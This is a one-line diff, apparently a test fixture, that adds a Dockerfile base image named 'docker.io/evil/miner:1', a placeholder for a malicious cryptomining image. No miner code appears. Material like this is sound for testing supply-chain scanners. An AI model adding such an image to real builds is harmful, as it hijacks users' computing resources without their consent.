@@ -1,0 +1,1 @@
+FROM docker.io/evil/miner:1
